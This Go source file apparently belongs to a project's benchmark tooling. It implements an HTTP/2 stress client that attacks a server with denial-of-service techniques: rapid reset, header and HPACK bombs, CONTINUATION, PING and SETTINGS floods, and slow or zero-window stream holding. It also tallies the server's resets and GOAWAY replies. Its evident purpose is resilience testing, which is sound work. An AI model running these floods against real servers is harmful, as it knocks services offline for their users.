package main

import (
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"

	"github.com/ushercluster/usher/scripts/bench"
)

// abuserH2 is a connection of HTTP/2. Its writer is the abuse, its reader counts answers.
type abuserH2 struct {
	*abusers
	net.Conn
	wire *wire

	mu   sync.Mutex
	open map[uint32]bool // streams that are held
	free chan struct{}   // one of them has ended; capacity 1
}

// So many requests go at once, and are taken back so much later: the door has begun with them.
const (
	rapid     = 20
	rapidWait = 5 * time.Millisecond
)

// abuseH2 begins the connection and does what the kind does.
func (a *abusers) abuseH2(ctx context.Context, c net.Conn) error {
	h := &abuserH2{abusers: a, Conn: c, wire: newWire(), open: map[uint32]bool{}, free: make(chan struct{}, 1)}
	defer h.forgetAll()
	window := uint32(1 << 20)
	switch a.Kind.Name {
	case "window-zero":
		window = 0
	case "window-tiny":
		window = 1
	}
	h.wire.begin(http2.Setting{ID: http2.SettingInitialWindowSize, Val: window})
	own, cancel := context.WithCancel(ctx)
	defer cancel()
	ended := make(chan error, 1)
	go func() {
		defer cancel()
		ended <- h.read(own)
	}()
	err := h.write(own)
	_ = c.SetReadDeadline(time.Now().Add(time.Second)) // for what the door has said already
	if said := <-ended; errors.As(said, new(endError)) || err == nil || errors.Is(err, context.Canceled) {
		return said
	}
	return err
}

// write does what the kind does until that fails.
func (h *abuserH2) write(ctx context.Context) error {
	if err := h.send(); err != nil {
		return err
	}
	switch h.Kind.Name {
	case "rapid-reset":
		return h.takeBack(ctx)
	case "header-bomb":
		return h.flood(ctx, 1, func(stream uint32) { h.wire.large(stream, h.get(), 200<<10) })
	case "hpack-bomb":
		return h.flood(ctx, 1, func(stream uint32) { h.wire.bomb(stream, h.get()) })
	case "continuation":
		h.wire.endless(1, h.get())
		return h.flood(ctx, 50, func(uint32) { h.wire.further(1) })
	case "ping", "ping-deaf":
		return h.flood(ctx, 50, func(uint32) { h.wire.ping() })
	case "settings":
		return h.flood(ctx, 50, func(stream uint32) { h.wire.settings(int(stream / 2)) })
	case "empty-data":
		h.wire.request(1, h.post())
		return h.flood(ctx, 50, func(uint32) { h.wire.data(1, 0) })
	}
	return h.hold(ctx)
}

func (h *abuserH2) get() target { return target{Method: "GET", Path: "/doc/sales", Cookie: h.cookie} }

func (h *abuserH2) post() target {
	return target{Method: "POST", Path: "/doc/sales", Cookie: h.cookie, Length: announced}
}

// send writes what was prepared.
func (h *abuserH2) send() error {
	_ = h.SetWriteDeadline(time.Now().Add(patience))
	_, err := h.Write(h.wire.take())
	if ne := net.Error(nil); errors.As(err, &ne) && ne.Timeout() {
		return endError("not read from any more")
	}
	return err
}

// flood does the same again and again, so often a write.
func (h *abuserH2) flood(ctx context.Context, batch int, act func(stream uint32)) error {
	for stream := uint32(1); ; {
		if err := h.governor.take(ctx, batch); err != nil {
			return err
		}
		for range batch {
			act(stream)
			stream += 2
		}
		if err := h.send(); err != nil {
			return err
		}
		h.did(batch)
		h.tally.did(batch)
	}
}

// takeBack asks and takes back.
func (h *abuserH2) takeBack(ctx context.Context) error {
	for stream := uint32(1); ; stream += 2 * rapid {
		if err := h.governor.take(ctx, rapid); err != nil {
			return err
		}
		for i := range uint32(rapid) {
			h.wire.request(stream+2*i, h.get())
		}
		if err := h.send(); err != nil {
			return err
		}
		if err := bench.Sleep(ctx, rapidWait); err != nil {
			return err
		}
		for i := range uint32(rapid) {
			h.wire.reset(stream + 2*i)
		}
		if err := h.send(); err != nil {
			return err
		}
		h.did(rapid)
		h.tally.did(rapid)
	}
}

// hold keeps streams open, and opens others for those that the door ends. Each second it does
// for each what keeps it alive.
func (h *abuserH2) hold(ctx context.Context) error {
	tick := time.NewTicker(dribble)
	defer tick.Stop()
	t := target{Method: "GET", Path: largePath, Cookie: h.cookie}
	if h.Kind.Name == "slow-body-h2" {
		t = h.post()
	}
	for stream := uint32(1); ; {
		for h.holding() < h.Kind.each(h.Count) {
			if err := h.governor.take(ctx, 1); err != nil {
				return err
			}
			h.remember(stream)
			h.wire.request(stream, t)
			if err := h.send(); err != nil {
				return err
			}
			h.did(1)
			h.tally.did(1)
			stream += 2
		}
		select {
		case <-ctx.Done():
			return ctx.Err()
		case <-h.free:
			if err := bench.Sleep(ctx, 10*time.Millisecond); err != nil { // one that is refused at once is not tried at once
				return err
			}
		case <-tick.C:
			if err := h.dripAll(); err != nil {
				return err
			}
		}
	}
}

// dripAll is a byte for each stream that is held.
func (h *abuserH2) dripAll() error {
	h.mu.Lock()
	for stream := range h.open {
		switch h.Kind.Name {
		case "slow-body-h2":
			h.wire.data(stream, 1)
		case "window-tiny":
			h.wire.grant(stream, 1)
		}
	}
	h.mu.Unlock()
	if h.Kind.Name == "window-zero" {
		h.wire.ping() // so that the door has not to ask whether anybody is there
	}
	return h.send()
}

func (h *abuserH2) holding() int {
	h.mu.Lock()
	defer h.mu.Unlock()
	return len(h.open)
}

func (h *abuserH2) remember(stream uint32) {
	h.mu.Lock()
	h.open[stream] = true
	h.mu.Unlock()
	h.tally.hold(1)
}

func (h *abuserH2) forget(stream uint32) {
	h.mu.Lock()
	was := h.open[stream]
	delete(h.open, stream)
	h.mu.Unlock()
	if !was {
		return
	}
	h.tally.hold(-1)
	select {
	case h.free <- struct{}{}:
	default: // it is known
	}
}

func (h *abuserH2) forgetAll() {
	h.mu.Lock()
	n := len(h.open)
	clear(h.open)
	h.mu.Unlock()
	h.tally.hold(-n)
}

// read counts the door's answers. It returns an endError when the door says why it ends the
// connection.
func (h *abuserH2) read(ctx context.Context) error {
	if h.Kind.Name == "ping-deaf" {
		<-ctx.Done()
		return ctx.Err()
	}
	frames := http2.NewFramer(io.Discard, h.Conn)
	frames.SetMaxReadFrameSize(1 << 20)
	frames.SetReuseFrames()
	fields := hpack.NewDecoder(4096, nil)
	var said error
	for {
		f, err := frames.ReadFrame()
		if err != nil {
			if said != nil {
				return said
			}
			return err
		}
		switch f := f.(type) {
		case *http2.GoAwayFrame:
			said = endError("GOAWAY " + f.ErrCode.String())
		case *http2.RSTStreamFrame:
			h.tally.answered("RST " + f.ErrCode.String())
			h.forget(f.StreamID)
		case *http2.HeadersFrame:
			h.tally.answered(status(fields, f.HeaderBlockFragment()))
			if f.StreamEnded() {
				h.forget(f.StreamID)
			}
		case *http2.DataFrame:
			if f.StreamEnded() {
				h.forget(f.StreamID)
			}
		}
	}
}

// status is what the head of an answer says.
func status(fields *hpack.Decoder, block []byte) string {
	all, err := fields.DecodeFull(block)
	if err != nil || len(all) == 0 || all[0].Name != ":status" {
		return fmt.Sprintf("an answer that is none (%v)", err)
	}
	return all[0].Value
}
